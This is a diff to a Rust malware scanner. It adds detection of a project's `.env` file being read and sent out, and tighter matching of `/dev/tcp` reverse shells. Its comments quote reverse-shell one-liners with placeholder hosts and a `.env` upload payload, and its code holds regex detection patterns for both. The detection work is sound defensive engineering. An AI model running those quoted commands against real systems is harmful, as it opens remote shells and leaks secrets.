@@ -94,6 +94,9 @@ pub(crate) struct Facts {
     pub env_whole: Option<usize>,
     /// A `.env` file read as raw text (not through dotenv).
     pub env_file: Option<usize>,
+    /// The raw `.env` contents (the variable assigned from the read, or the read itself)
+    /// appear in a send or a payload, not only parsed for a token.
+    pub env_sent: bool,
     pub user: Option<usize>,
     pub host: Option<usize>,
     pub ip_lookup: Option<usize>,
@@ -471,9 +474,150 @@ fn env_access(data: &[u8], p: usize, f: &mut Facts) {
         let raw = any_of(near, &["open(", "readFile", "read_text", "Get-Content", "cat "]);
         if raw && !ci_contains(near, "dotenv") {
             f.env_file.get_or_insert(p);
-            f.creds.push((p, "the project's .env file", true));
+            f.env_sent |= env_contents_sent(data, p);
+            f.creds.push((p, ENV_FILE, true));
         }
     }
+}
+
+/// The label of a raw `.env` read among the credential stores.
+pub(crate) const ENV_FILE: &str = "the project's .env file";
+
+/// `NAME = …` at the start of a line (`const`/`let`/`var`/`$`, a type annotation allowed).
+static LINE_ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"^\s*(?:(?:const|let|var|local|my)\s+)?\$?([A-Za-z_][A-Za-z0-9_]*)\s*(?::\s*[A-Za-z_<>\[\]]+\s*)?=[^=>]",
+    )
+    .expect("line assign regex")
+});
+/// `with open('.env') as fh:` / `fs.readFile('.env', (err, data) =>`: the handle or the
+/// callback's data parameter.
+static AS_HANDLE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\bas\s+([A-Za-z_][A-Za-z0-9_]*)\s*:").expect("as regex"));
+static CALLBACK_DATA: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\(\s*err[A-Za-z]*\s*,\s*([A-Za-z_$][A-Za-z0-9_$]*)\s*\)").expect("callback regex"));
+
+/// Calls that send and the keys of a message payload (Discord `content`, Telegram `text`,
+/// `document`, a request `body`/`data`/`json`/`files`).
+const SEND_MARKERS: &[&str] = &[
+    "post(",
+    "fetch(",
+    ".send(",
+    "sendMessage",
+    "sendDocument",
+    ".write(",
+    "request(",
+    "urlopen(",
+    ".put(",
+    "'content'",
+    "\"content\"",
+    "content:",
+    "'text'",
+    "\"text\"",
+    "text:",
+    "'body'",
+    "\"body\"",
+    "body:",
+    "data=",
+    "json=",
+    "files=",
+    "'data'",
+    "\"data\"",
+    "data:",
+    "'document'",
+    "\"document\"",
+    "'caption'",
+    "\"caption\"",
+    "'message'",
+    "\"message\"",
+    "message:",
+];
+
+/// Methods that pick one value out of the contents (a token, a chat id): what follows is
+/// not the raw file.
+const EXTRACTS: &[&str] = &[
+    ".split",
+    ".match",
+    ".splitlines",
+    ".get(",
+    ".find",
+    ".search",
+    ".partition",
+    ".startswith",
+    ".startsWith",
+    ".includes",
+    ".indexOf",
+    ".exec(",
+    ".lines",
+    "[",
+];
+
+/// Is the `.env` read at `p` sent as it is? The read sits inside a send (`files={'document':
+/// open('.env', 'rb')}`), or the variable it is assigned to (directly, through a `with … as
+/// fh` handle's `fh.read()`, or a `readFile` callback's data) appears whole, outside a URL
+/// and not parsed, on a later line that sends or builds a payload. A bot that parses its
+/// own token out of `.env` and posts to its own chat does neither.
+pub(crate) fn env_contents_sent(data: &[u8], p: usize) -> bool {
+    let (s, e) = line_span(data, p);
+    let line = &data[s..e];
+    if any_of(
+        line,
+        &["post(", "fetch(", ".send(", "sendDocument", "request(", "urlopen("],
+    ) {
+        return true;
+    }
+    let mut names: Vec<Vec<u8>> = Vec::new();
+    if let Some(c) = LINE_ASSIGN.captures(line) {
+        names.push(c[1].to_vec());
+    }
+    if let Some(c) = CALLBACK_DATA.captures(line) {
+        names.push(c[1].to_vec());
+    }
+    // Later lines, bounded: 200 lines or 16 KB.
+    let end = (e + 16 * 1024).min(data.len());
+    let later: Vec<&[u8]> = data[e.min(end)..end].split(|&b| b == b'\n').take(200).collect();
+    if let Some(c) = AS_HANDLE.captures(line) {
+        let mut read = c[1].to_vec();
+        read.extend_from_slice(b".read");
+        for l in later.iter().take(5) {
+            if let Some(a) = LINE_ASSIGN.captures(l) {
+                if memchr::memmem::find(l, &read).is_some() {
+                    names.push(a[1].to_vec());
+                }
+            }
+        }
+    }
+    names.retain(|n| !n.is_empty());
+    later
+        .iter()
+        .any(|l| any_of(l, SEND_MARKERS) && names.iter().any(|n| raw_use(l, n)))
+}
+
+/// `name` used whole in `line`: a word, not inside a URL, not followed by a parsing method.
+fn raw_use(line: &[u8], name: &[u8]) -> bool {
+    memchr::memmem::find_iter(line, name).any(|i| {
+        let j = i + name.len();
+        if (i > 0 && (ident_byte(line[i - 1]) || matches!(line[i - 1], b'.' | b'\'' | b'"')))
+            || line.get(j).is_some_and(|&b| ident_byte(b))
+        {
+            return false;
+        }
+        // A keyword argument or key of that name (`data=…`, `data: …`), not the variable.
+        let next = line[j..].iter().copied().find(|b| *b != b' ');
+        if matches!(next, Some(b':')) || (next == Some(b'=') && !line[j..].trim_ascii_start().starts_with(b"==")) {
+            return false;
+        }
+        // Inside a URL (`https://api.telegram.org/bot${token}/…`): the bot's own credential.
+        let tok_start = line[..i]
+            .iter()
+            .rposition(|&b| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"' | b'`' | b'(' | b','))
+            .map_or(0, |k| k + 1);
+        if contains(&line[tok_start..i], "://") {
+            return false;
+        }
+        let rest = &line[j..];
+        !EXTRACTS.iter().any(|x| rest.starts_with(x.as_bytes()))
+    })
 }
 
 /// A human name for the exfiltration channel at `p`, or `None` if the hit is not a host.
@@ -753,6 +897,37 @@ fn dynamic_exec(hay: &[u8]) -> bool {
         })
 }
 
+/// A shell's descriptors duplicated into a `/dev/tcp` socket: `bash -i >& /dev/tcp/h/p 0>&1`,
+/// `sh -i &> /dev/udp/h/p`, `bash > /dev/tcp/h/p 0<&1`. A plain redirection into the socket
+/// (`(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1`, wait-for-it.sh's port probe) sends
+/// nothing a listener could drive: its `2>&1` duplicates stderr into /dev/null.
+static DEV_TCP_DUP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:>&|&>)\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S+\s+0[<>]&1|\b(?:ba)?sh\s+-i\b")
+        .expect("dev tcp regex")
+});
+/// `exec 196<>/dev/tcp/h/p` opens a socket as descriptor N (a bash HTTP client does too).
+static DEV_TCP_FD: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(\d+)<>\s*/dev/(?:tcp|udp)/").expect("dev tcp fd regex"));
+
+/// Is this `/dev/tcp` line a reverse shell: descriptors duplicated into the socket, or a
+/// socket descriptor fed to a shell (`sh <&196 >&196`, `while read line; do $line 2>&5 >&5`).
+fn dev_tcp_shell(line: &[u8]) -> bool {
+    if !(contains(line, "/dev/tcp/") || contains(line, "/dev/udp/")) {
+        return false;
+    }
+    if DEV_TCP_DUP.is_match(line) {
+        return true;
+    }
+    DEV_TCP_FD.captures_iter(line).any(|c| {
+        let n = String::from_utf8_lossy(&c[1]).into_owned();
+        let shell_reads = ["sh <&", "sh 0<&", "sh -i <&"]
+            .iter()
+            .any(|s| contains(line, &format!("{s}{n}")));
+        let runs_lines = contains(line, "do $") && contains(line, &format!(">&{n}"));
+        shell_reads || runs_lines
+    })
+}
+
 pub(crate) fn threats(path: &str, data: &[u8], f: &Facts, place: Place, out: &mut Vec<ScamFinding>) {
     let ln = |p: usize| line_of(data, p);
     let install = place == Place::Install;
@@ -766,8 +941,7 @@ pub(crate) fn threats(path: &str, data: &[u8], f: &Facts, place: Place, out: &mu
         let near = around(data, p, 8, 8);
         let shell = any_of(near, &["/bin/sh", "/bin/bash", "cmd.exe", "powershell", "pty.spawn"]);
         let why = if at(data, p, "/dev/tcp/") || at(data, p, "bash -i") || at(data, p, "/bin/sh -i") {
-            (contains(line, "/dev/tcp/") || contains(line, "/dev/udp/"))
-                && (any_of(line, &["0>&1", "0<&1", ">&", "-i"]))
+            dev_tcp_shell(line)
         } else if at(data, p, "dup2") {
             contains(near, "socket") && contains(near, "fileno") && shell
         } else if at(data, p, "pty.spawn") {
